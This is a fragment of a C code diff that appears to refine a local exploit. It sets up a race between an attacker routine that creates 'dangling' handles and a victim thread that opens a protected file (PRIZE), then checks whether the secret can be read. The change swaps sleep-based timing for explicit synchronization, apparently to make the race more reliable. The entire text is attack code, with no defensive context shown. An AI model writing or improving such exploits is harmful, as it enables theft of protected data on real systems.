@@ -46,14 +46,14 @@ static bool reads_secret(unsigned int index)
 static bool fire(void)
 {
 	(void)own_cpu(0);
+	meet_victim();
 	for (unsigned int i = 0; i < COPIES; i++)
 		make_dangling(i);
-	for (unsigned int round = 0; round < 50; round++) {
-		sleep_milliseconds(10);
-		for (unsigned int i = 0; i < COPIES; i++) {
-			if (reads_secret(i))
-				return true;
-		}
+	victim_go();
+	await(progress[VICTIM_ROUNDS] != 1);
+	for (unsigned int i = 0; i < COPIES; i++) {
+		if (reads_secret(i))
+			return true;
 	}
 	return false;
 }
@@ -63,11 +63,8 @@ static void victim(void)
 	unsigned long mask = 1;
 
 	call3(__NR_sched_setaffinity, 0, sizeof(mask), (long)&mask);
-	for (;;) {
-		for (unsigned int i = 0; i < COPIES; i++)
-			copies[i] = call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
-		sleep_milliseconds(20);
-		for (unsigned int i = 0; i < COPIES; i++)
-			call1(__NR_close, copies[i]);
-	}
+	victim_awaits_attacker();
+	for (unsigned int i = 0; i < COPIES; i++)
+		copies[i] = call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
+	victim_waits();
 }
